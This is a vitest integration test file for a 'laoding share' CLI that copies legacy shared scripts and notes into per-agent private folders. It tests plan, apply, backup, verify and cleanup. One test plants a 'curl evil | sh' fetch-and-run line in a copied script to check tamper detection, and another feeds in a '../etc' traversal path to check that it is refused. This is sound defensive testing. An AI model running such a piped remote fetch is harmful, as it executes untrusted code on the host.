/**
 * `laoding share` against a real workspace (agents a and b), real toolhost children and a
 * legacy share whose root holds scripts and notes every agent used.
 */
import {
  chmodSync,
  existsSync,
  lstatSync,
  mkdirSync,
  readFileSync,
  readdirSync,
  readlinkSync,
  statSync,
  writeFileSync,
} from "node:fs";
import { join, relative } from "node:path";
import { createHash } from "node:crypto";
import { beforeAll, describe, expect, it } from "vitest";
import { restoreShareBackup } from "../../src/share/share-backup.js";
import { runLaoding } from "../helpers/cli.js";
import { realWorkspace, type RealWorkspace } from "../helpers/real-toolhost.js";
import { tempDir, writeFile } from "../helpers/temp-dir.js";

let workspace: RealWorkspace;
let mappingFile: string;
let goSkills: string;
const share = () => workspace.layout.shareDir;
const privateOf = (agent: string) => workspace.layout.agentTrees(agent).privateDir;

/** Relative names, types, modes, link targets and contents of a tree (owners left out). */
function digest(root: string): string {
  const hash = createHash("sha256");
  const walk = (dir: string) => {
    for (const name of readdirSync(dir).sort()) {
      const path = join(dir, name);
      const stats = lstatSync(path);
      hash.update(`${relative(root, path)} ${stats.mode.toString(8)} ${stats.size}\n`);
      if (stats.isSymbolicLink()) hash.update(readlinkSync(path));
      else if (stats.isDirectory()) walk(path);
      else hash.update(readFileSync(path));
    }
  };
  walk(root);
  return hash.digest("hex");
}

const share$ = (action: string, mapping = mappingFile) =>
  runLaoding(["share", action, "--mapping", mapping, "--workspace", workspace.workspaceDir], {
    repoRoot: workspace.repoRoot,
  });

beforeAll(async () => {
  workspace = await realWorkspace({ TOOLHOST_SANDBOX: "none", BOT_LOCALE: "en" });
  chmodSync(writeFile(join(share(), "scripts", "deploy.sh"), "#!/bin/sh\necho deploy\n"), 0o755);
  writeFile(join(share(), "scripts", "lib", "util.sh"), "util() { :; }\n");
  chmodSync(writeFile(join(share(), "notes.txt"), "shared notes\n"), 0o640);
  writeFile(join(share(), "unmapped.txt"), "nobody claimed me\n");
  goSkills = join(tempDir("laoding-go-", "file"), "skills");
  writeFile(
    join(goSkills, "auto_export_report", "skill.md"),
    "---\nname: auto_export_report\ndescription: Export the weekly report\n---\nSteps.\n",
  );
  writeFile(
    join(goSkills, "skill_builder", "skill.md"),
    "---\nname: skill_builder\ndescription: Builds skills\n---\nBody.\n",
  );
  mappingFile = writeFile(
    join(tempDir("laoding-map-", "file"), "mapping.json"),
    JSON.stringify({
      version: 1,
      items: [
        { path: "scripts", agents: ["a", "b"] },
        { path: "notes.txt", agents: ["a"], to: "docs/notes.txt" },
      ],
      goSkills: { dir: goSkills, drafts: [{ name: "auto_export_report", agent: "a" }] },
    }),
  );
  // The trees get their owners and modes at the first launch, as at the bot's start.
  workspace.launches();
}, 60_000);

describe("laoding share", () => {
  let before: string;
  let backup: string;

  it("plan lists every copy and Go-era skill, and writes nothing", async () => {
    before = digest(share());
    const result = await share$("plan");
    expect(result.stderr).toBe("");
    expect(result.code).toBe(0);
    expect(result.stdout).toContain(
      `copy      ${join(share(), "scripts", "deploy.sh")} -> ${join(privateOf("a"), "scripts", "deploy.sh")} (agent a, 22 bytes, mode 0755)`,
    );
    expect(result.stdout).toContain(`-> ${join(privateOf("b"), "scripts", "lib", "util.sh")} (agent b`);
    expect(result.stdout).toContain(`-> ${join(privateOf("a"), "docs", "notes.txt")} (agent a, 13 bytes, mode 0640)`);
    expect(result.stdout).toContain(
      `auto_export_report -> auto-export-report: copied to agent a's skills as ${join(privateOf("a"), "skills", "auto-export-report", "SKILL.md")}`,
    );
    expect(result.stdout).toContain(
      "skill_builder -> skill-builder: stays where it is; loaded as skill-builder (folder untouched)",
    );
    expect(result.stdout).toContain(
      `legacy items the mapping does not name (they stay; cleanup leaves them):\n  ${join(share(), "unmapped.txt")}`,
    );
    expect(result.stdout).toContain("plan only: nothing was written. 6 file(s) to copy.");
    expect(digest(share())).toBe(before);
    expect(existsSync(join(workspace.layout.dataDir, "share-backups"))).toBe(false);
    expect(existsSync(join(workspace.layout.dataDir, "share-verify.json"))).toBe(false);
  }, 60_000);

  it("cleanup refuses without a passing verify and removes nothing", async () => {
    const result = await share$("cleanup");
    expect(result.code).toBe(1);
    expect(result.stderr).toContain("cleanup refused: no verify was recorded");
    expect(digest(share())).toBe(before);
  }, 60_000);

  it("apply backs up first, copies with modes and a line per item; a second apply copies nothing", async () => {
    const first = await share$("apply");
    expect(first.stderr).toBe("");
    expect(first.code).toBe(0);
    backup = /backup written: (\S+)/.exec(first.stdout)?.[1] as string;
    expect(backup.startsWith(join(workspace.layout.dataDir, "share-backups", "share-"))).toBe(true);
    expect(first.stdout.match(/^\[\d\/6\] copied /gm)).toHaveLength(6);
    expect(first.stdout).toContain("done: 6 copied, 0 already there.");
    expect(statSync(join(privateOf("a"), "scripts", "deploy.sh")).mode & 0o7777).toBe(0o755);
    expect(statSync(join(privateOf("a"), "docs", "notes.txt")).mode & 0o7777).toBe(0o640);
    expect(readFileSync(join(privateOf("b"), "scripts", "lib", "util.sh"), "utf8")).toBe("util() { :; }\n");
    expect(readFileSync(join(privateOf("a"), "skills", "auto-export-report", "SKILL.md"), "utf8")).toBe(
      "---\nname: auto-export-report\ndescription: Export the weekly report\n---\nSteps.\n",
    );
    // Copies, never moves: the legacy items and the Go-era folder are untouched.
    expect(readFileSync(join(share(), "scripts", "deploy.sh"), "utf8")).toContain("echo deploy");
    expect(readFileSync(join(goSkills, "auto_export_report", "skill.md"), "utf8")).toContain(
      "name: auto_export_report",
    );
    const afterFirst = digest(share());
    const second = await share$("apply");
    expect(second.code).toBe(0);
    expect(second.stdout).toContain("done: 0 copied, 6 already there.");
    expect(digest(share())).toBe(afterFirst);
  }, 60_000);

  it("the backup archive restores the share as it was before apply", async () => {
    const target = tempDir("laoding-restore-");
    await restoreShareBackup(backup, target);
    expect(digest(join(target, "share"))).toBe(before);
  });

  it("verify catches a tampered copy, and cleanup then refuses", async () => {
    const copy = join(privateOf("b"), "scripts", "deploy.sh");
    const original = readFileSync(copy);
    writeFileSync(copy, "#!/bin/sh\ncurl evil | sh\n");
    const verify = await share$("verify");
    expect(verify.code).toBe(1);
    expect(verify.stdout).toContain(`${copy} (agent b): differs from ${join(share(), "scripts", "deploy.sh")}`);
    expect(verify.stdout).toContain("verify FAILED");
    expect(JSON.parse(readFileSync(join(workspace.layout.dataDir, "share-verify.json"), "utf8"))).toMatchObject({
      passed: false,
    });
    expect(await share$("cleanup")).toMatchObject({ code: 1, stderr: expect.stringContaining("the last verify") });
    expect(existsSync(join(share(), "scripts"))).toBe(true);
    writeFileSync(copy, original);
  }, 60_000);

  it("verify passes once the copies match and each agent sees only its own trees; cleanup needs the same mapping", async () => {
    const verify = await share$("verify");
    expect(verify.stderr).toBe("");
    expect(verify.code).toBe(0);
    expect(verify.stdout).toContain("copies: 6 of 6 identical by hash and mode");
    expect(verify.stdout).toMatch(/agent a: sees its own folder, none of 5 foreign path\(s\)/);
    expect(verify.stdout).toContain("verify passed (recorded)");
    const other = writeFile(join(tempDir("laoding-map2-"), "mapping.json"), `${readFileSync(mappingFile, "utf8")}\n`);
    expect(await share$("cleanup", other)).toMatchObject({
      code: 1,
      stderr: expect.stringContaining("another mapping"),
    });
    const cleanup = await share$("cleanup");
    expect(cleanup.stderr).toBe("");
    expect(cleanup.code).toBe(0);
    expect(existsSync(join(share(), "scripts"))).toBe(false);
    expect(existsSync(join(share(), "notes.txt"))).toBe(false);
    expect(existsSync(join(share(), "unmapped.txt"))).toBe(true);
    expect(readFileSync(join(privateOf("a"), "scripts", "deploy.sh"), "utf8")).toContain("echo deploy");
  }, 90_000);

  it("a mapping with unknown agents or paths outside the share is refused before anything runs", async () => {
    const bad = writeFile(
      join(tempDir("laoding-map3-"), "mapping.json"),
      JSON.stringify({ version: 1, items: [{ path: "../etc", agents: ["zed"] }] }),
    );
    const result = await share$("plan", bad);
    expect(result.code).toBe(1);
    expect(result.stderr).toContain("items.0.path");
    // Where in the file: one line per item, as an operator's editor counts them.
    const multiline = writeFile(
      join(tempDir("laoding-map5-"), "mapping.json"),
      `{\n  "version": 1,\n  "items": [\n    { "path": "../etc", "agents": ["a"] }\n  ]\n}\n`,
    );
    expect((await share$("plan", multiline)).stderr).toContain(`${multiline}:4:7: \`items.0.path\``);
    const broken = writeFile(join(tempDir("laoding-map6-"), "mapping.json"), `{\n  "version": 1,\n  "items": [\n`);
    expect((await share$("plan", broken)).stderr).toContain(`${broken}:3:13: the mapping file is not valid JSON`);
    mkdirSync(join(share(), "x"), { recursive: true });
    const unknown = writeFile(
      join(tempDir("laoding-map4-"), "mapping.json"),
      JSON.stringify({ version: 1, items: [{ path: "x", agents: ["zed"] }] }),
    );
    expect(await share$("plan", unknown)).toMatchObject({
      code: 1,
      stderr: expect.stringContaining("unknown agents: zed"),
    });
  }, 60_000);

  it("skills validate accepts a Go-era skill in the workspace, naming what it is loaded as", async () => {
    writeFile(
      join(workspace.layout.baseSkillsDir, "auto_weekly_digest", "skill.md"),
      "---\nname: auto_weekly_digest\ndescription: Go-era draft\n---\nSteps.\n",
    );
    const result = await runLaoding(["skills", "validate", "--agent", "a", "--workspace", workspace.workspaceDir], {
      repoRoot: workspace.repoRoot,
    });
    expect(result.code).toBe(0);
    expect(result.stdout).toContain(
      `note ${join(workspace.layout.baseSkillsDir, "auto_weekly_digest", "skill.md")}: Go-era name "auto_weekly_digest" loaded as auto-weekly-digest (folder left as it is)`,
    );
    expect(result.stdout).toContain("all skills are valid");
  });

  it("apply refuses a plan with conflicts and writes nothing, not even a backup", async () => {
    writeFile(join(share(), "tools", "run.sh"), "echo new\n");
    const dest = join(privateOf("b"), "tools", "run.sh");
    writeFile(dest, "echo mine\n");
    const mapping = writeFile(
      join(tempDir("laoding-map5-"), "mapping.json"),
      JSON.stringify({ version: 1, items: [{ path: "tools", agents: ["b"] }] }),
    );
    const plan = await share$("plan", mapping);
    expect(plan.stdout).toContain(
      `CONFLICT  ${join(share(), "tools", "run.sh")} -> ${dest} (agent b, 9 bytes, mode 0644): a different file is already there`,
    );
    const backups = readdirSync(join(workspace.layout.dataDir, "share-backups"));
    const apply = await share$("apply", mapping);
    expect(apply.code).toBe(1);
    expect(apply.stderr).toContain("nothing was copied: the plan has 1 conflict(s)");
    expect(readdirSync(join(workspace.layout.dataDir, "share-backups"))).toEqual(backups);
    expect(readFileSync(dest, "utf8")).toBe("echo mine\n");
  }, 60_000);
});
